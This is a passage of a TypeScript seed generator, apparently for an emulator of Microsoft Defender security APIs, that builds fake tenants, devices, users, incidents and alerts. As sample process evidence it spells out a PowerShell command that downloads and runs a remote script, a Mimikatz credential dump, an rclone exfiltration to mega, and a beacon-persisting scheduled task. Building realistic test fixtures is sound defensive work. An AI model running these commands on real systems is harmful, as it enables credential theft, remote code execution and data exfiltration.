import { graphTimestamp } from '../runtime';
import { buildCloudAppsSeed } from './cloudAppsSeed';
import { SeededRandom } from './random';
import type { SeedData } from './store';
import { highestSeverity, newAlertId } from './store';
import type {
	Alert,
	AlertStatus,
	AppRegistration,
	DirectoryUser,
	Evidence,
	HuntingColumn,
	HuntingRow,
	HuntingTable,
	Incident,
	IncidentStatus,
	KnownFile,
	Machine,
	Severity,
	Tenant,
	Classification,
	Determination,
} from './types';

export const GRAPH_ROLES_FULL = [
	'SecurityIncident.ReadWrite.All',
	'SecurityAlert.ReadWrite.All',
	'ThreatHunting.Read.All',
	'SecurityEvents.Read.All',
	'SecurityIdentitiesAccount.Read.All',
	'SecurityIdentitiesActions.ReadWrite.All',
	'User.Read.All',
	'User.EnableDisableAccount.All',
	'User-PasswordProfile.ReadWrite.All',
	'User.RevokeSessions.All',
	'IdentityRiskyUser.ReadWrite.All',
	'SecurityAnalyzedMessage.ReadWrite.All',
	'ThreatIntelligence.Read.All',
	'CustomDetection.ReadWrite.All',
];
/**
 * api-authentication-application.md (CloudAppSecurityDocs), "Supported permission scopes", spelled as its table spells them:
 * each manage permission includes its read one.
 */
export const CLOUD_APPS_ROLES_FULL = ['Investigation.manage', 'Discovery.manage', 'Settings.manage'];
export const CLOUD_APPS_ROLES_READ_ONLY = ['Investigation.read'];
export const GRAPH_ROLES_READ_ONLY = ['SecurityIncident.Read.All', 'SecurityAlert.Read.All'];
export const MDE_ROLES_FULL = [
	'Machine.Read.All',
	'Machine.ReadWrite.All',
	'Machine.Isolate',
	'Machine.Scan',
	'Machine.CollectForensics',
	'Machine.RestrictExecution',
	'Machine.StopAndQuarantine',
	'Machine.Offboard',
	'Machine.LiveResponse',
	'Library.Manage',
	'Ti.ReadWrite.All',
	'File.Read.All',
	'Ip.Read.All',
	'Url.Read.All',
	'User.Read.All',
	'Vulnerability.Read.All',
	'Software.Read.All',
	'SecurityRecommendation.Read.All',
	'Alert.Read.All',
	'URL.Read.All',
	'Alert.ReadWrite.All',
	'Score.Read.All',
	'RemediationTasks.Read.All',
];

export const EMULATOR_ROWS_COUNT = 500_000;

export interface SeedOptions {
	seed: number;
	incidentCount: number;
	/** Devices onboarded to Defender for Endpoint (default 40). */
	machineCount?: number;
	/** "Now" of the seeded world; all generated times are before it. */
	anchorMs: number;
	clientCertificate: { certificatePem: string; thumbprintSha1Hex: string; thumbprintSha256Hex: string };
}

export interface DefaultAppIds {
	full: AppRegistration;
	readOnly: AppRegistration;
	expiredSecret: AppRegistration;
	certificate: AppRegistration;
	otherTenantApp: AppRegistration;
}

const DAY_MS = 86_400_000;
const MINUTE_MS = 60_000;

const DEPARTMENTS = ['fin', 'hr', 'eng', 'sales', 'it', 'ops', 'legal', 'mkt'];
const OS_PROFILES = [
	{ prefix: 'win10', osPlatform: 'Windows10', version: '22H2', osBuild: 19045, weight: 12 },
	{ prefix: 'win11', osPlatform: 'Windows11', version: '23H2', osBuild: 22631, weight: 14 },
	{ prefix: 'srv2019', osPlatform: 'WindowsServer2019', version: '1809', osBuild: 17763, weight: 4 },
	{ prefix: 'srv2022', osPlatform: 'WindowsServer2022', version: '21H2', osBuild: 20348, weight: 5 },
	{ prefix: 'ubuntu', osPlatform: 'Linux', version: '22.04', osBuild: 0, weight: 3 },
	{ prefix: 'mac', osPlatform: 'macOS', version: '14.4', osBuild: 0, weight: 2 },
] as const;
const FIRST_NAMES = ['Adele', 'Alex', 'Diego', 'Grady', 'Henrietta', 'Isaiah', 'Johanna', 'Joni', 'Lee', 'Lidia', 'Lynne', 'Megan', 'Miriam', 'Nestor', 'Patti', 'Pradeep', 'Irvin', 'Allan', 'Christie', 'Debra', 'Emily', 'Enrico', 'Gerhart', 'Raul', 'Zrinka'];
const LAST_NAMES = ['Vance', 'Wilber', 'Siciliani', 'Archie', 'Mueller', 'Langer', 'Lauer', 'Sherman', 'Gu', 'Holloway', 'Robbins', 'Bowen', 'Hunter', 'Wilke', 'Fernandez', 'Gupta', 'Sayers', 'Deyoung', 'Cline', 'Berg', 'Braun', 'Cattaneo', 'Gerhart', 'Ruiz', 'Makovac'];
export const ANALYSTS = ['secops@contoso.com', 'alex.wilber@contoso.com', 'megan.bowen@contoso.com', 'soc-tier2@contoso.com'];
const CUSTOM_TAGS = ['Phishing campaign', 'VIP', 'Ransomware', 'Red team', 'Finance', 'Needs review', 'Escalated'];

interface FileTemplate {
	fileName: string;
	filePath: string;
	publisher: string | null;
	malicious: boolean;
	threatName: string | null;
}

const FILE_TEMPLATES: FileTemplate[] = [
	{ fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', publisher: 'Microsoft Corporation', malicious: false, threatName: null },
	{ fileName: 'cmd.exe', filePath: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', malicious: false, threatName: null },
	{ fileName: 'rundll32.exe', filePath: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', malicious: false, threatName: null },
	{ fileName: 'WINWORD.EXE', filePath: 'C:\\Program Files\\Microsoft Office\\root\\Office16', publisher: 'Microsoft Corporation', malicious: false, threatName: null },
	{ fileName: 'explorer.exe', filePath: 'C:\\Windows', publisher: 'Microsoft Corporation', malicious: false, threatName: null },
	{ fileName: 'schtasks.exe', filePath: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', malicious: false, threatName: null },
	{ fileName: 'mimikatz.exe', filePath: 'C:\\Users\\Public\\Downloads', publisher: null, malicious: true, threatName: 'HackTool:Win32/Mimikatz' },
	{ fileName: 'beacon.exe', filePath: 'C:\\ProgramData\\Intel', publisher: null, malicious: true, threatName: 'Backdoor:Win64/CobaltStrike' },
	{ fileName: 'invoice_0423.docm', filePath: 'C:\\Users\\Public\\Documents', publisher: null, malicious: true, threatName: 'TrojanDownloader:O97M/Emotet' },
	{ fileName: 'rclone.exe', filePath: 'C:\\Windows\\Temp', publisher: null, malicious: false, threatName: null },
	{ fileName: 'update.dll', filePath: 'C:\\Users\\Public\\AppData', publisher: null, malicious: true, threatName: 'Trojan:Win32/Qakbot' },
	{ fileName: 'toolbar_setup.exe', filePath: 'C:\\Users\\Public\\Downloads', publisher: 'Adware Inc', malicious: true, threatName: 'PUA:Win32/Toolbar' },
];

type EvidenceKind = 'device' | 'user' | 'process' | 'file' | 'ip' | 'url';

interface AlertTemplate {
	title: string;
	category: string;
	mitre: string[];
	serviceSource: string;
	detectionSource: string;
	severity: Severity;
	evidence: EvidenceKind[];
	file?: string;
	threatFamilyName?: string;
	actorDisplayName?: string;
}

const ALERT_TEMPLATES: AlertTemplate[] = [
	{ title: 'Suspicious PowerShell command line', category: 'Execution', mitre: ['T1059.001'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'medium', evidence: ['device', 'process', 'user'], file: 'powershell.exe' },
	{ title: "'Mimikatz' credential theft tool", category: 'CredentialAccess', mitre: ['T1003.001'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'antivirus', severity: 'high', evidence: ['device', 'file', 'process', 'user'], file: 'mimikatz.exe', threatFamilyName: 'Mimikatz' },
	{ title: 'Ransomware behavior detected in the file system', category: 'Ransomware', mitre: ['T1486'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'high', evidence: ['device', 'file', 'user'], file: 'update.dll' },
	{ title: 'Connection to a known malicious IP address', category: 'CommandAndControl', mitre: ['T1071'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'medium', evidence: ['device', 'ip', 'process'], file: 'rundll32.exe' },
	{ title: 'Email messages containing malicious URL removed after delivery', category: 'InitialAccess', mitre: ['T1566.002'], serviceSource: 'microsoftDefenderForOffice365', detectionSource: 'microsoftDefenderForOffice365', severity: 'medium', evidence: ['user', 'url'] },
	{ title: 'Impossible travel activity', category: 'InitialAccess', mitre: ['T1078'], serviceSource: 'microsoftDefenderForCloudApps', detectionSource: 'cloudAppSecurity', severity: 'medium', evidence: ['user', 'ip'] },
	{ title: 'Suspected DCSync attack (replication of directory services)', category: 'CredentialAccess', mitre: ['T1003.006'], serviceSource: 'microsoftDefenderForIdentity', detectionSource: 'microsoftDefenderForIdentity', severity: 'high', evidence: ['device', 'user'] },
	{ title: 'Anomalous scheduled task created', category: 'Persistence', mitre: ['T1053.005'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'low', evidence: ['device', 'process'], file: 'schtasks.exe' },
	{ title: 'Suspicious rundll32 execution', category: 'DefenseEvasion', mitre: ['T1218.011'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'medium', evidence: ['device', 'process', 'file'], file: 'update.dll' },
	{ title: 'Cobalt Strike command and control detected', category: 'CommandAndControl', mitre: ['T1071.001', 'T1105'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'antivirus', severity: 'high', evidence: ['device', 'file', 'ip'], file: 'beacon.exe', threatFamilyName: 'CobaltStrike', actorDisplayName: 'Storm-0501' },
	{ title: 'Atypical sign-in properties', category: 'InitialAccess', mitre: ['T1078.004'], serviceSource: 'azureAdIdentityProtection', detectionSource: 'azureAdIdentityProtection', severity: 'low', evidence: ['user', 'ip'] },
	{ title: 'Unwanted software was detected', category: 'Malware', mitre: [], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'antivirus', severity: 'informational', evidence: ['device', 'file'], file: 'toolbar_setup.exe' },
	{ title: 'Malicious macro document opened', category: 'Execution', mitre: ['T1204.002', 'T1566.001'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'medium', evidence: ['device', 'file', 'process', 'user'], file: 'invoice_0423.docm', threatFamilyName: 'Emotet' },
	{ title: 'Possible data exfiltration using rclone', category: 'Exfiltration', mitre: ['T1567.002'], serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint', severity: 'high', evidence: ['device', 'process', 'url'], file: 'rclone.exe' },
];

/** Keeps incident severities mixed: an incident takes the highest severity of its alerts. */
const TEMPLATE_WEIGHT: Record<Severity, number> = { high: 1, medium: 3, low: 4, informational: 4, unknown: 1, unknownFutureValue: 0 };

const PRODUCT_NAMES: Record<string, string> = {
	microsoftDefenderForEndpoint: 'Microsoft Defender for Endpoint',
	microsoftDefenderForOffice365: 'Microsoft Defender for Office 365',
	microsoftDefenderForCloudApps: 'Microsoft Defender for Cloud Apps',
	microsoftDefenderForIdentity: 'Microsoft Defender for Identity',
	azureAdIdentityProtection: 'Microsoft Entra ID Protection',
	microsoftDefenderForCloud: 'Microsoft Defender for Cloud',
};

const MALICIOUS_IPS = ['185.220.101.45', '45.137.21.9', '91.219.236.18', '194.165.16.77', '23.106.223.97'];
const MALICIOUS_URLS = ['http://login-microsoft0nline.com/auth', 'https://contoso-payroll.top/invoice', 'https://mega.nz/folder/x8Hq2', 'http://cdn-update.win/patch.bin'];

const HUMAN_CATEGORY: Record<string, string> = {
	InitialAccess: 'Initial access',
	Execution: 'Execution',
	Persistence: 'Persistence',
	DefenseEvasion: 'Defense evasion',
	CredentialAccess: 'Credential access',
	CommandAndControl: 'Command and control',
	Exfiltration: 'Exfiltration',
	Ransomware: 'Ransomware',
	Malware: 'Malware',
};

function iso(ms: number): string {
	return graphTimestamp(ms);
}

function pascal(value: string): string {
	return value.charAt(0).toUpperCase() + value.slice(1);
}

export function buildSeed(options: SeedOptions): SeedData & { defaultApps: DefaultAppIds } {
	const random = new SeededRandom(options.seed);
	const anchor = Math.floor(options.anchorMs / MINUTE_MS) * MINUTE_MS;

	const contoso: Tenant = { id: random.guid(), domain: 'contoso.onmicrosoft.com', displayName: 'Contoso' };
	const fabrikam: Tenant = { id: random.guid(), domain: 'fabrikam.onmicrosoft.com', displayName: 'Fabrikam' };

	const app = (name: string, tenant: Tenant, graph: string[], mde: string[], secretExpiresMs: number | null, cloudApps = CLOUD_APPS_ROLES_FULL): AppRegistration => ({
		clientId: random.guid(),
		tenantId: tenant.id,
		displayName: name,
		servicePrincipalId: random.guid(),
		secrets: secretExpiresMs === null ? [] : [{ id: random.guid(), value: random.secretValue(), expiresAt: new Date(secretExpiresMs).toISOString() }],
		certificates: [],
		roles: { graph: [...graph], mde: [...mde], cloudApps: [...cloudApps] },
	});
	const defaultApps: DefaultAppIds = {
		full: app('n8n Defender automation', contoso, GRAPH_ROLES_FULL, MDE_ROLES_FULL, anchor + 365 * DAY_MS),
		readOnly: app('n8n Defender read-only', contoso, GRAPH_ROLES_READ_ONLY, ['Machine.Read.All'], anchor + 365 * DAY_MS, CLOUD_APPS_ROLES_READ_ONLY),
		expiredSecret: app('n8n Defender expired secret', contoso, GRAPH_ROLES_FULL, MDE_ROLES_FULL, anchor - DAY_MS),
		certificate: app('n8n Defender certificate', contoso, GRAPH_ROLES_FULL, MDE_ROLES_FULL, null),
		otherTenantApp: app('Fabrikam SOC automation', fabrikam, GRAPH_ROLES_FULL, MDE_ROLES_FULL, anchor + 365 * DAY_MS),
	};
	defaultApps.certificate.certificates = [{ ...options.clientCertificate }];

	const users = buildUsers(random);
	const machines = buildMachines(random, anchor, users, options.machineCount ?? 40);
	const files = buildFiles(random);
	const { incidents, alerts } = buildIncidents(random, options.incidentCount, anchor, contoso.id, machines, users, files);
	addEvolvableMembers(incidents, alerts);
	const huntingTables = buildHuntingTables(random, anchor, machines, users, files, alerts);

	return {
		primaryTenantId: contoso.id,
		tenants: [contoso, fabrikam],
		apps: Object.values(defaultApps),
		incidents,
		alerts,
		machines,
		users,
		files,
		huntingTables,
		cloudApps: buildCloudAppsSeed({ seed: options.seed, anchorMs: anchor, tenantId: contoso.id, users }),
		defaultApps,
	};
}

function buildUsers(random: SeededRandom): DirectoryUser[] {
	const departments = ['Finance', 'HR', 'Engineering', 'Sales', 'IT', 'Operations', 'Legal', 'Marketing'];
	return FIRST_NAMES.map((first, index) => {
		const last = LAST_NAMES[index];
		return {
			aadUserId: random.guid(),
			userPrincipalName: `${first.toLowerCase()}.${last.toLowerCase()}@contoso.com`,
			accountName: `${first.charAt(0).toLowerCase()}${last.toLowerCase()}`,
			domainName: 'CONTOSO',
			displayName: `${first} ${last}`,
			userSid: `S-1-5-21-1004336348-1177238915-682003330-${1100 + index}`,
			department: departments[index % departments.length],
		};
	});
}

function buildMachines(random: SeededRandom, anchor: number, users: DirectoryUser[], count: number): Machine[] {
	const machines: Machine[] = [];
	const counters = new Map<string, number>();
	for (let index = 0; index < count; index++) {
		const profile = random.weighted(OS_PROFILES.map((candidate) => [candidate, candidate.weight] as const));
		const department = profile.prefix.startsWith('srv') ? random.pick(['it', 'ops', 'eng']) : random.pick(DEPARTMENTS);
		const key = `${profile.prefix}-${department}`;
		const number = (counters.get(key) ?? 0) + 1;
		counters.set(key, number);
		const isWindows = profile.osPlatform.startsWith('Windows');
		const internalIp = `10.${random.int(1, 3)}.${random.int(0, 40)}.${random.int(2, 250)}`;
		const riskScore = random.weighted([['None', 3], ['Low', 4], ['Medium', 3], ['High', 2]] as const);
		const healthStatus = random.weighted([['Active', 30], ['Inactive', 3], ['ImpairedCommunication', 2], ['NoSensorData', 1]] as const);
		const lastSeen = anchor - random.int(5, 60 * 24 * (healthStatus === 'Inactive' ? 12 : 1)) * MINUTE_MS;
		const rbacGroups = [
			{ id: 43, name: 'Workstations' },
			{ id: 44, name: 'Servers' },
			{ id: 45, name: 'Finance devices' },
		];
		const rbac = profile.prefix.startsWith('srv') ? rbacGroups[1] : department === 'fin' ? rbacGroups[2] : rbacGroups[0];
		const tags: string[] = [];
		if (department === 'fin') tags.push('Finance');
		if (random.chance(0.15)) tags.push('VIP');
		if (profile.prefix.startsWith('srv')) tags.push('Production');
		machines.push({
			id: random.hex(40),
			computerDnsName: `${key}-${String(number).padStart(2, '0')}.contoso.local`,
			firstSeen: new Date(anchor - random.int(120, 600) * DAY_MS).toISOString(),
			lastSeen: new Date(lastSeen).toISOString(),
			osPlatform: profile.osPlatform,
			osVersion: isWindows ? null : profile.version,
			osProcessor: profile.osPlatform === 'macOS' ? 'arm64' : 'x64',
			version: profile.version,
			lastIpAddress: internalIp,
			lastExternalIpAddress: `203.0.113.${random.int(2, 250)}`,
			agentVersion: isWindows ? `10.8760.${profile.osBuild}.${random.int(1000, 1099)}` : `101.24${random.int(10, 99)}.${random.int(1000, 9999)}`,
			osBuild: profile.osBuild,
			healthStatus,
			onboardingStatus: 'Onboarded',
			deviceValue: profile.prefix.startsWith('srv') || tags.includes('VIP') ? 'High' : 'Normal',
			rbacGroupId: rbac.id,
			rbacGroupName: rbac.name,
			riskScore,
			exposureLevel: random.pick(['Low', 'Medium', 'High']),
			isAadJoined: isWindows && !profile.prefix.startsWith('srv'),
			aadDeviceId: isWindows && !profile.prefix.startsWith('srv') ? random.guid() : null,
			defenderAvStatus: random.weighted([['Updated', 9], ['NotUpdated', 1]] as const),
			machineTags: tags,
			ipAddresses: [
				{
					ipAddress: internalIp,
					macAddress: random.hex(12).toUpperCase(),
					type: 'Ethernet',
					operationalStatus: 'Up',
				},
			],
		});
	}
	void users;
	return machines;
}

function buildFiles(random: SeededRandom): KnownFile[] {
	return FILE_TEMPLATES.map((template) => ({
		sha1: random.hex(40),
		sha256: random.hex(64),
		md5: random.hex(32),
		fileName: template.fileName,
		filePath: template.filePath,
		fileSize: random.int(40_000, 9_000_000),
		filePublisher: template.publisher,
		signer: template.publisher,
		isMalicious: template.malicious,
		threatName: template.threatName,
	}));
}

function fileByName(files: KnownFile[], name: string): KnownFile {
	const file = files.find((candidate) => candidate.fileName === name);
	if (!file) throw new Error(`Seed file '${name}' missing`);
	return file;
}

function fileDetails(file: KnownFile): Record<string, unknown> {
	return {
		sha1: file.sha1,
		sha256: file.sha256,
		fileName: file.fileName,
		filePath: file.filePath,
		fileSize: file.fileSize,
		filePublisher: file.filePublisher,
		signer: file.signer,
		issuer: file.signer ? 'Microsoft Windows Production PCA 2011' : null,
	};
}

function userAccount(user: DirectoryUser): Record<string, unknown> {
	return {
		accountName: user.accountName,
		domainName: user.domainName,
		userSid: user.userSid,
		azureAdUserId: user.aadUserId,
		userPrincipalName: user.userPrincipalName,
		displayName: user.displayName,
	};
}

function buildEvidence(
	random: SeededRandom,
	template: AlertTemplate,
	createdMs: number,
	machine: Machine,
	user: DirectoryUser,
	files: KnownFile[],
	verdict: string,
): Evidence[] {
	const base = (type: string, roles: string[] = []): Evidence => ({
		'@odata.type': `#microsoft.graph.security.${type}`,
		createdDateTime: iso(createdMs),
		verdict,
		remediationStatus: verdict === 'malicious' ? random.pick(['none', 'remediated', 'prevented']) : 'none',
		remediationStatusDetails: null,
		roles,
		detailedRoles: [],
		tags: [],
	});
	const file = template.file ? fileByName(files, template.file) : undefined;
	const parent = fileByName(files, template.file === 'invoice_0423.docm' ? 'WINWORD.EXE' : 'explorer.exe');
	const evidence: Evidence[] = [];
	for (const kind of template.evidence) {
		switch (kind) {
			case 'device':
				evidence.push({
					...base('deviceEvidence', ['compromised']),
					firstSeenDateTime: iso(Date.parse(machine.firstSeen)),
					mdeDeviceId: machine.id,
					azureAdDeviceId: machine.aadDeviceId,
					deviceDnsName: machine.computerDnsName,
					hostName: machine.computerDnsName.split('.')[0],
					ntDomain: 'CONTOSO',
					dnsDomain: 'contoso.local',
					osPlatform: machine.osPlatform,
					osBuild: machine.osBuild,
					version: machine.version,
					healthStatus: machine.healthStatus.charAt(0).toLowerCase() + machine.healthStatus.slice(1),
					riskScore: machine.riskScore.toLowerCase(),
					rbacGroupId: machine.rbacGroupId,
					rbacGroupName: machine.rbacGroupName,
					onboardingStatus: 'onboarded',
					defenderAvStatus: machine.defenderAvStatus === 'Updated' ? 'updated' : 'notUpdated',
					ipInterfaces: machine.ipAddresses.map((address) => address.ipAddress),
					loggedOnUsers: [{ accountName: user.accountName, domainName: user.domainName }],
					vmMetadata: null,
				});
				break;
			case 'user':
				evidence.push({ ...base('userEvidence', ['compromised']), userAccount: userAccount(user) });
				break;
			case 'process': {
				const image = file && file.fileName.endsWith('.exe') ? file : fileByName(files, 'powershell.exe');
				evidence.push({
					...base('processEvidence'),
					processId: random.int(1000, 19_999),
					parentProcessId: random.int(400, 9_999),
					processCommandLine: commandLine(image.fileName, random),
					processCreationDateTime: iso(createdMs - random.int(1, 30) * MINUTE_MS),
					parentProcessCreationDateTime: iso(createdMs - random.int(31, 600) * MINUTE_MS),
					detectionStatus: 'detected',
					mdeDeviceId: machine.id,
					imageFile: fileDetails(image),
					parentProcessImageFile: fileDetails(parent),
					userAccount: userAccount(user),
				});
				break;
			}
			case 'file':
				if (file) {
					evidence.push({
						...base('fileEvidence'),
						detectionStatus: random.pick(['detected', 'blocked', 'prevented']),
						mdeDeviceId: machine.id,
						fileDetails: fileDetails(file),
					});
				}
				break;
			case 'ip':
				evidence.push({ ...base('ipEvidence'), ipAddress: random.pick(MALICIOUS_IPS), countryLetterCode: random.pick(['RU', 'NL', 'US', 'DE']) });
				break;
			case 'url':
				evidence.push({ ...base('urlEvidence'), url: random.pick(MALICIOUS_URLS) });
				break;
		}
	}
	return evidence;
}

function commandLine(fileName: string, random: SeededRandom): string {
	switch (fileName) {
		case 'powershell.exe':
			return random.pick([
				'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
				'powershell.exe -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://cdn-update.win/a.ps1\')"',
				'powershell.exe -File C:\\Scripts\\inventory.ps1',
			]);
		case 'mimikatz.exe':
			return 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit';
		case 'rclone.exe':
			return 'rclone.exe copy C:\\Finance mega:backup --transfers 16';
		case 'schtasks.exe':
			return 'schtasks.exe /create /sc minute /mo 15 /tn "OneDrive Update" /tr C:\\ProgramData\\Intel\\beacon.exe';
		case 'rundll32.exe':
			return 'rundll32.exe C:\\Users\\Public\\AppData\\update.dll,DllRegisterServer';
		default:
			return fileName;
	}
}

function buildIncidents(
	random: SeededRandom,
	count: number,
	anchor: number,
	tenantId: string,
	machines: Machine[],
	users: DirectoryUser[],
	files: KnownFile[],
): { incidents: Incident[]; alerts: Alert[] } {
	const createdTimes = Array.from({ length: count }, () => anchor - random.int(10, 30 * 24 * 60 - 10) * MINUTE_MS).sort((a, b) => a - b);
	const incidents: Incident[] = [];
	const alerts: Alert[] = [];
	createdTimes.forEach((createdMs, index) => {
		const id = String(1001 + index);
		const status: IncidentStatus = random.weighted([['active', 55], ['inProgress', 15], ['resolved', 25], ['redirected', 5]] as const);
		const alertCount = random.weighted([[1, 4], [2, 3], [3, 2], [4, 1], [5, 1]] as const);
		const templates = Array.from({ length: alertCount }, () => random.weighted(ALERT_TEMPLATES.map((template) => [template, TEMPLATE_WEIGHT[template.severity]] as const)));
		const incidentMachines = random.sample(machines, random.chance(0.7) ? 1 : random.int(2, 3));
		const user = random.pick(users);
		const resolved = status === 'resolved';
		const classification: Classification = resolved ? random.weighted([['truePositive', 5], ['falsePositive', 3], ['informationalExpectedActivity', 2]] as const) : 'unknown';
		const determination: Determination = !resolved
			? 'unknown'
			: classification === 'truePositive'
				? random.pick(['malware', 'multiStagedAttack', 'phishing', 'compromisedAccount'] as const)
				: classification === 'falsePositive'
					? random.pick(['notMalicious', 'notEnoughDataToValidate'] as const)
					: random.pick(['securityTesting', 'lineOfBusinessApplication', 'confirmedUserActivity'] as const);
		const incidentAlerts: Alert[] = templates.map((template, alertIndex) => {
			const alertCreated = Math.min(anchor - MINUTE_MS, createdMs + alertIndex * random.int(1, 90) * MINUTE_MS);
			const machine = incidentMachines[alertIndex % incidentMachines.length];
			const alertId = newAlertId(alertCreated, random.int(-2_000_000_000, 2_000_000_000));
			const alertStatus: AlertStatus = resolved ? 'resolved' : status === 'inProgress' ? random.pick(['inProgress', 'new'] as const) : 'new';
			const lastUpdate = Math.min(anchor, alertCreated + random.int(1, 600) * MINUTE_MS);
			const file = template.file ? fileByName(files, template.file) : undefined;
			return {
				id: alertId,
				providerAlertId: alertId,
				incidentId: id,
				status: alertStatus,
				severity: template.severity,
				classification,
				determination,
				serviceSource: template.serviceSource,
				detectionSource: template.detectionSource,
				productName: PRODUCT_NAMES[template.serviceSource] ?? 'Microsoft Defender XDR',
				detectorId: random.guid(),
				tenantId,
				title: template.title,
				description: `${template.title} was observed on ${machine.computerDnsName}. Review the evidence and the device timeline.`,
				recommendedActions: 'A. Validate the alert.\n1. Review the evidence and the process tree.\n2. Check the device timeline for related activity.\nB. Scope the incident and contain affected devices and accounts.',
				category: template.category,
				assignedTo: null,
				alertWebUrl: `https://security.microsoft.com/alerts/${alertId}?tid=${tenantId}`,
				incidentWebUrl: `https://security.microsoft.com/incidents/${id}?tid=${tenantId}`,
				actorDisplayName: template.actorDisplayName ?? null,
				threatDisplayName: file?.threatName ?? null,
				threatFamilyName: template.threatFamilyName ?? null,
				mitreTechniques: [...template.mitre],
				createdDateTime: iso(alertCreated),
				lastUpdateDateTime: iso(lastUpdate),
				resolvedDateTime: resolved ? iso(lastUpdate) : null,
				firstActivityDateTime: iso(alertCreated - random.int(1, 120) * MINUTE_MS),
				lastActivityDateTime: iso(alertCreated - random.int(0, 1) * MINUTE_MS),
				comments: [],
				evidence: buildEvidence(random, template, alertCreated, machine, user, files, resolved && classification !== 'truePositive' ? 'suspicious' : 'malicious'),
				systemTags: [],
			};
		});
		const categories = [...new Set(incidentAlerts.map((alert) => alert.category))];
		const where = incidentMachines.length > 1 ? 'on multiple endpoints' : 'on one endpoint';
		const displayName =
			categories.length > 1
				? `Multi-stage incident involving ${HUMAN_CATEGORY[categories[0]] ?? categories[0]} & ${HUMAN_CATEGORY[categories[1]] ?? categories[1]} ${where}`
				: `${incidentAlerts[0].title} ${incidentAlerts[0].serviceSource === 'microsoftDefenderForEndpoint' ? where : 'involving one user'}`;
		const lastAlertUpdate = Math.max(...incidentAlerts.map((alert) => Date.parse(alert.lastUpdateDateTime)));
		const lastUpdate = Math.min(anchor, lastAlertUpdate + (status === 'active' ? 0 : random.int(5, 2_000) * MINUTE_MS));
		const assignedTo = status === 'active' ? (random.chance(0.2) ? random.pick(ANALYSTS) : null) : random.pick(ANALYSTS);
		const comments = random.chance(0.3)
			? [
					{
						'@odata.type': '#microsoft.graph.security.alertComment' as const,
						comment: random.pick(['Investigating with the device owner.', 'Isolated the device, collecting investigation package.', 'Escalated to tier 2.']),
						createdByDisplayName: assignedTo ?? 'secops@contoso.com',
						createdDateTime: iso(Math.min(anchor, createdMs + random.int(5, 240) * MINUTE_MS)),
					},
				]
			: [];
		incidents.push({
			id,
			tenantId,
			status,
			incidentWebUrl: `https://security.microsoft.com/incidents/${id}?tid=${tenantId}`,
			redirectIncidentId: null,
			displayName,
			createdDateTime: iso(createdMs),
			lastUpdateDateTime: iso(lastUpdate),
			assignedTo,
			classification,
			determination,
			severity: highestSeverity(incidentAlerts.map((alert) => alert.severity)) ?? 'medium',
			customTags: random.chance(0.3) ? random.sample(CUSTOM_TAGS, random.int(1, 2)) : [],
			systemTags: random.chance(0.1) ? ['Defender Experts'] : [],
			description: random.chance(0.4) ? `Correlated activity: ${incidentAlerts.map((alert) => alert.title).join('; ')}.` : null,
			summary: null,
			resolvingComment: resolved ? random.pick(['Confirmed and remediated.', 'Expected admin activity.', 'Benign test by the red team.']) : null,
			comments,
			lastModifiedBy: status === 'active' ? null : assignedTo,
		});
		alerts.push(...incidentAlerts);
	});
	// Redirected incidents point at an older incident they were merged into.
	for (const incident of incidents) {
		if (incident.status === 'redirected') {
			const target = incidents.find((candidate) => Number(candidate.id) < Number(incident.id) && candidate.status !== 'redirected');
			if (target) incident.redirectIncidentId = target.id;
			else incident.status = 'active';
		}
	}
	return { incidents, alerts };
}

/**
 * Gives some seeded items the enum members Graph lists after `unknownFutureValue` (see
 * graph/evolvable.ts), chosen by position so no random draw changes and every other seeded
 * value stays as it was: every sixth active incident is `awaitingAction` (a status only
 * Defender Experts set, so it also gets that system tag), and every seventh Defender for
 * Endpoint alert comes from Defender for Cloud (serviceSource `microsoftDefenderForCloud`,
 * detectionSource `microsoftDefenderForServers`, the plan that carries MDE onto servers).
 */
function addEvolvableMembers(incidents: Incident[], alerts: Alert[]): void {
	incidents
		.filter((incident) => incident.status === 'active')
		.forEach((incident, index) => {
			if (index % 6 !== 0) return;
			incident.status = 'awaitingAction';
			if (!incident.systemTags.includes('Defender Experts')) incident.systemTags.push('Defender Experts');
		});
	alerts
		.filter((alert) => alert.serviceSource === 'microsoftDefenderForEndpoint')
		.forEach((alert, index) => {
			if (index % 7 !== 3) return;
			alert.serviceSource = 'microsoftDefenderForCloud';
			alert.detectionSource = 'microsoftDefenderForServers';
			alert.productName = PRODUCT_NAMES.microsoftDefenderForCloud;
		});
}

function table(name: string, columns: HuntingColumn[], rows: HuntingRow[]): HuntingTable {
	const sorted = rows.sort((a, b) => (b.Timestamp as Date).getTime() - (a.Timestamp as Date).getTime());
	return { name, columns, rows: () => sorted };
}

function buildHuntingTables(
	random: SeededRandom,
	anchor: number,
	machines: Machine[],
	users: DirectoryUser[],
	files: KnownFile[],
	alerts: Alert[],
): HuntingTable[] {
	let reportId = 1000;
	const timeWithin30Days = (): Date => new Date(anchor - random.int(1, 30 * 24 * 60 - 1) * MINUTE_MS - random.int(0, 59_999));

	const deviceInfo: HuntingRow[] = [];
	for (const machine of machines) {
		for (let day = 0; day < 30; day += 2) {
			deviceInfo.push({
				Timestamp: new Date(anchor - day * DAY_MS - random.int(0, 600) * MINUTE_MS),
				DeviceId: machine.id,
				DeviceName: machine.computerDnsName,
